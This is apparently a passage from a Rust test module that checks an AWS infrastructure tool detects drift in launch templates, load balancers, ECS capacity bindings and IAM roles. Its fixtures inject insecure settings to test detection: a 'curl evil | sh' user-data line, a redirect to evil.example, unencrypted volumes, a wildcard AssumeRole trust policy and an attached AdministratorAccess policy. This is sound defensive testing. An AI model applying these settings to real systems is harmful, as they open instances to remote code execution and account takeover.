            fields::string_map_value(&template_settings(&t, Some("sg-1"))),
            planned_map("launch_template_settings")
        );
        assert_eq!(
            fields::string_map_value(&expected_template_settings(&spec)),
            planned_map("launch_template_settings")
        );
        assert!(!template_drifted(&t, &spec));
    }

    #[test]
    fn every_changed_template_setting_reads_differently_and_is_drifted() {
        let spec = bp::launch_template(&input(), &bp::names("prod").instance_profile, "sg-1");
        let changes: Vec<Change<launch_template::ObservedTemplate>> = vec![
            (
                "user_data",
                Box::new(|t| t.user_data = Some("#!/bin/bash\ncurl evil | sh\n".into())),
            ),
            ("user_data", Box::new(|t| t.user_data = None)),
            (
                "network_interfaces",
                Box::new(|t| t.network_interfaces[0].associate_public_ip = Some(true)),
            ),
            (
                "network_interfaces",
                Box::new(|t| {
                    t.network_interfaces[0]
                        .security_groups
                        .push("sg-open".into())
                }),
            ),
            (
                "network_interfaces",
                Box::new(|t| t.network_interfaces.clear()),
            ),
            (
                "network_interfaces",
                Box::new(|t| t.security_groups.push("sg-open".into())),
            ),
            (
                "block_devices",
                Box::new(|t| t.block_devices[0].volume_type = Some("gp2".into())),
            ),
            (
                "block_devices",
                Box::new(|t| t.block_devices[0].encrypted = Some(false)),
            ),
            (
                "block_devices",
                Box::new(|t| {
                    t.block_devices.push(launch_template::ObservedBlockDevice {
                        device_name: "/dev/xvdb".into(),
                        volume_type: Some("gp3".into()),
                        encrypted: Some(false),
                    })
                }),
            ),
            (
                "instance_profile",
                Box::new(|t| t.instance_profile = Some("admin".into())),
            ),
            ("instance_profile", Box::new(|t| t.instance_profile = None)),
            ("key_name", Box::new(|t| t.key_name = Some("ops".into()))),
        ];
        let want = template_settings(&observed_template(&spec), Some("sg-1"));
        for (key, change) in changes {
            let mut t = observed_template(&spec);
            change(&mut t);
            let seen = template_settings(&t, Some("sg-1"));
            assert_ne!(seen[key], want[key], "{key}: {seen:?}");
            assert!(template_drifted(&t, &spec), "{key} not repaired: {t:?}");
        }
    }

    fn listener(
        protocol: &str,
        port: i32,
        action: bp::ListenerAction,
    ) -> load_balancer::ObservedListener {
        load_balancer::ObservedListener {
            arn: format!("arn:listener/{port}"),
            port,
            protocol: protocol.into(),
            ssl_policy: None,
            certificate_arn: None,
            default_actions: vec![action],
        }
    }

    fn observed_load_balancer() -> Observed {
        let https = bp::https_listener(&input());
        let http = bp::http_listener();
        Observed {
            lb: Some(load_balancer::ObservedLoadBalancer {
                arn: "arn:lb".into(),
                dns_name: "lb.example".into(),
                zone_id: "Z1".into(),
                vpc_id: "vpc-1".into(),
                subnet_ids: vec!["subnet-a".into(), "subnet-b".into()],
                security_group_ids: vec!["sg-alb".into()],
            }),
            lb_attributes: BTreeMap::from([
                (
                    load_balancer::DELETION_PROTECTION.to_owned(),
                    "true".to_owned(),
                ),
                (
                    load_balancer::DROP_INVALID_HEADER_FIELDS.to_owned(),
                    "true".to_owned(),
                ),
            ]),
            https: Some(listener("HTTPS", https.port, https.default_action())),
            http: Some(listener("HTTP", http.port, http.default_action())),
            ..Observed::default()
        }
    }

    #[test]
    fn the_blueprint_load_balancer_reads_as_planned() {
        assert_eq!(
            shown(load_balancer_settings(
                &observed_load_balancer(),
                Some("sg-alb")
            )),
            planned_map("load_balancer_settings")
        );
        assert_eq!(
            planned_map("load_balancer_settings"),
            fields::string_map_value(&BTreeMap::from([
                ("drop_invalid_header_fields".to_owned(), "true".to_owned()),
                (
                    "security_groups".to_owned(),
                    "alb_security_group_id".to_owned()
                ),
                (
                    "http_listener".to_owned(),
                    "HTTP:80 redirect to HTTPS://#{host}:443/#{path}?#{query} HTTP_301".to_owned()
                ),
                (
                    "https_listener".to_owned(),
                    "HTTPS:443 fixed-response 404 text/plain \"Not found\"".to_owned()
                ),
                ("other_listeners".to_owned(), "none".to_owned()),
            ]))
        );
    }

    #[test]
    fn every_changed_load_balancer_setting_reads_differently() {
        let want =
            load_balancer_settings(&observed_load_balancer(), Some("sg-alb")).expect("settings");
        let changes: Vec<Change<Observed>> = vec![
            (
                "drop_invalid_header_fields",
                Box::new(|o| {
                    o.lb_attributes.insert(
                        load_balancer::DROP_INVALID_HEADER_FIELDS.into(),
                        "false".into(),
                    );
                }),
            ),
            (
                "drop_invalid_header_fields",
                Box::new(|o| {
                    o.lb_attributes
                        .remove(load_balancer::DROP_INVALID_HEADER_FIELDS);
                }),
            ),
            (
                "security_groups",
                Box::new(|o| {
                    if let Some(lb) = &mut o.lb {
                        lb.security_group_ids.push("sg-open".into());
                    }
                }),
            ),
            (
                "http_listener",
                Box::new(|o| {
                    o.http = Some(listener(
                        "HTTP",
                        80,
                        bp::ListenerAction::Forward {
                            target_groups: vec!["arn:tg".into()],
                        },
                    ));
                }),
            ),
            (
                "http_listener",
                Box::new(|o| {
                    o.http = Some(listener(
                        "HTTP",
                        80,
                        bp::ListenerAction::Redirect {
                            protocol: Some("HTTPS".into()),
                            host: Some("evil.example".into()),
                            port: Some("443".into()),
                            path: Some("/#{path}".into()),
                            query: Some("#{query}".into()),
                            status_code: "HTTP_301".into(),
                        },
                    ));
                }),
            ),
            ("http_listener", Box::new(|o| o.http = None)),
            (
                "other_listeners",
                Box::new(|o| {
                    o.other_listeners
                        .push(listener("HTTP", 8080, bp::not_found_action()));
                }),
            ),
            (
                "https_listener",
                Box::new(|o| {
                    o.https = Some(listener(
                        "HTTPS",
                        443,
                        bp::ListenerAction::FixedResponse {
                            status_code: "200".into(),
                            content_type: Some("text/plain".into()),
                            body: None,
                        },
                    ));
                }),
            ),
            (
                "https_listener",
                Box::new(|o| {
                    o.https = Some(listener("HTTP", 443, bp::not_found_action()));
                }),
            ),
        ];
        for (key, change) in changes {
            let mut o = observed_load_balancer();
            change(&mut o);
            let seen = load_balancer_settings(&o, Some("sg-alb")).expect("settings");
            assert_ne!(seen[key], want[key], "{key}: {seen:?}");
        }
        assert_eq!(load_balancer_settings(&Observed::default(), None), None);
    }

    fn observed_binding() -> Observed {
        let names = bp::names("prod");
        Observed {
            template: Some(observed_template(&bp::launch_template(
                &input(),
                &names.instance_profile,
                "sg-1",
            ))),
            group: Some(auto_scaling_group::ObservedGroup {
                arn: "arn:asg".into(),
                min_size: 2,
                max_size: 10,
                desired_capacity: 2,
                subnet_ids: vec!["subnet-c".into(), "subnet-d".into()],
                instance_types: vec!["m6i.large".into()],
                on_demand_base_capacity: 2,
                on_demand_percentage_above_base: 0,
                spot_allocation_strategy: "capacity-optimized".into(),
                protected_from_scale_in: true,
                launch_template_id: Some("lt-1".into()),
                launch_template_version: Some("$Default".into()),
                deleting: false,
                tags: BTreeMap::new(),
            }),
            cluster: Some(ecs_cluster::ObservedCluster {
                arn: "arn:cluster".into(),
                container_insights: true,
                capacity_providers: vec![names.capacity_provider.clone()],
                default_strategy: vec![names.capacity_provider.clone()],
                default_strategy_items: vec![(names.capacity_provider.clone(), 1, 0)],
                tags: BTreeMap::new(),
            }),
            capacity_provider: Some(capacity_provider::ObservedCapacityProvider {
                arn: "arn:cp".into(),
                auto_scaling_group_arn: "arn:asg".into(),
                target_capacity: 80,
                managed_scaling: true,
                managed_termination_protection: true,
                managed_draining: true,
                tags: BTreeMap::new(),
                update_status: None,
                update_status_reason: None,
            }),
            ..Observed::default()
        }
    }

    #[test]
    fn the_blueprint_capacity_binding_reads_as_planned() {
        assert_eq!(
            shown(capacity_binding(&observed_binding())),
            planned_map("capacity_binding")
        );
        // A group bound without a version launches the default version.
        let mut o = observed_binding();
        if let Some(g) = &mut o.group {
            g.launch_template_version = None;
        }
        assert_eq!(shown(capacity_binding(&o)), planned_map("capacity_binding"));
    }

    #[test]
    fn every_changed_binding_reads_differently() {
        let want = capacity_binding(&observed_binding()).expect("binding");
        let group = |f: fn(&mut auto_scaling_group::ObservedGroup)| {
            Box::new(move |o: &mut Observed| {
                if let Some(g) = &mut o.group {
                    f(g)
                }
            }) as Box<dyn Fn(&mut Observed)>
        };
        let provider = |f: fn(&mut capacity_provider::ObservedCapacityProvider)| {
            Box::new(move |o: &mut Observed| {
                if let Some(p) = &mut o.capacity_provider {
                    f(p)
                }
            }) as Box<dyn Fn(&mut Observed)>
        };
        let cluster = |f: fn(&mut ecs_cluster::ObservedCluster)| {
            Box::new(move |o: &mut Observed| {
                if let Some(c) = &mut o.cluster {
                    f(c)
                }
            }) as Box<dyn Fn(&mut Observed)>
        };
        let changes: Vec<Change<Observed>> = vec![
            (
                "auto_scaling_group_launch_template",
                group(|g| g.launch_template_version = Some("$Latest".into())),
            ),
            (
                "auto_scaling_group_launch_template",
                group(|g| g.launch_template_version = Some("1".into())),
            ),
            (
                "auto_scaling_group_launch_template",
                group(|g| g.launch_template_id = Some("lt-other".into())),
            ),
            (
                "auto_scaling_group_launch_template",
                group(|g| g.launch_template_id = None),
            ),
            (
                "auto_scaling_group_scale_in_protection",
                group(|g| g.protected_from_scale_in = false),
            ),
            (
                "cluster_capacity_providers",
                cluster(|c| c.capacity_providers.push("FARGATE".into())),
            ),
            (
                "cluster_capacity_providers",
                cluster(|c| c.capacity_providers.clear()),
            ),
            (
                "cluster_default_strategy",
                cluster(|c| c.default_strategy_items[0].1 = 2),
            ),
            (
                "cluster_default_strategy",
                cluster(|c| c.default_strategy_items[0].2 = 1),
            ),
            (
                "cluster_default_strategy",
                cluster(|c| c.default_strategy_items.clear()),
            ),
            (
                "auto_scaling_group_launch_template",
                Box::new(|o| o.group = None),
            ),
            (
                "capacity_provider_auto_scaling_group",
                provider(|p| p.auto_scaling_group_arn = "arn:asg-replaced".into()),
            ),
            (
                "capacity_provider_auto_scaling_group",
                Box::new(|o| o.capacity_provider = None),
            ),
        ];
        for (key, change) in changes {
            let mut o = observed_binding();
            change(&mut o);
            let seen = capacity_binding(&o).expect("binding");
            assert_ne!(seen[key], want[key], "{key}: {seen:?}");
        }
    }

    fn observed_role(partition: &str, trust: &str) -> Observed {
        Observed {
            role: Some(iam_role::ObservedRole {
                arn: "arn:role".into(),
                tags: BTreeMap::new(),
                trust_policy: Some(iam_role::decode_policy_document(trust)),
            }),
            role_policies: Some(
                bp::instance_role_policies(partition)
                    .into_iter()
                    .rev()
                    .collect(),
            ),
            role_inline_policies: Some(Vec::new()),
            profile_roles: Some(vec![bp::names("prod").instance_role]),
            ..Observed::default()
        }
    }

    #[test]
    fn the_blueprint_role_reads_as_planned_in_any_partition_and_encoding() {
        let trust = bp::instance_role_trust_policy();
        // IAM returns the document URL-encoded.
        let encoded: String = trust
            .bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect();
        for (partition, document) in [("aws", trust.as_str()), ("aws-cn", encoded.as_str())] {
            assert_eq!(
                shown(instance_role_settings(&observed_role(partition, document))),
                planned_map("instance_role_settings"),
                "{partition}"
            );
        }
    }

    #[test]
    fn every_changed_role_setting_reads_differently() {
        let trust = bp::instance_role_trust_policy();
        let want = instance_role_settings(&observed_role("aws", &trust)).expect("settings");
        let changes: Vec<Change<Observed>> = vec![
            (
                "trust_policy",
                Box::new(|o| {
                    if let Some(r) = &mut o.role {
                        r.trust_policy = Some(
                            r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}"#.into(),
                        );
                    }
                }),
            ),
            (
                "managed_policies",
                Box::new(|o| {
                    if let Some(p) = &mut o.role_policies {
                        p.push("arn:aws:iam::aws:policy/AdministratorAccess".into());
                    }
                }),
            ),
            (
                "managed_policies",
                Box::new(|o| {
                    if let Some(p) = &mut o.role_policies {
                        p.pop();
                    }
                }),
            ),
            (
                "inline_policies",
                Box::new(|o| o.role_inline_policies = Some(vec!["extra".into()])),
            ),
            (
                "instance_profile_role",
                Box::new(|o| o.profile_roles = Some(vec!["admin".into()])),
            ),
            (
                "instance_profile_role",
                Box::new(|o| o.profile_roles = Some(Vec::new())),
            ),
            (
                "instance_profile_role",
                Box::new(|o| o.profile_roles = None),
            ),
        ];
        for (key, change) in changes {
            let mut o = observed_role("aws", &trust);
            change(&mut o);
            let seen = instance_role_settings(&o).expect("settings");
            assert_ne!(seen[key], want[key], "{key}: {seen:?}");
        }
    }

    #[test]
    fn policies_show_aws_managed_ones_by_name_and_others_by_arn() {
        use super::super::schema::policy_text;
        assert_eq!(
            policy_text("arn:aws:iam::aws:policy/service-role/AmazonEC2ContainerServiceforEC2Role"),
            "service-role/AmazonEC2ContainerServiceforEC2Role"
        );
        assert_eq!(
            policy_text("arn:aws-us-gov:iam::aws:policy/AmazonSSMManagedInstanceCore"),
            "AmazonSSMManagedInstanceCore"
        );
        assert_eq!(
            policy_text("arn:aws:iam::123456789012:policy/AmazonSSMManagedInstanceCore"),
            "arn:aws:iam::123456789012:policy/AmazonSSMManagedInstanceCore"
        );
    }
}
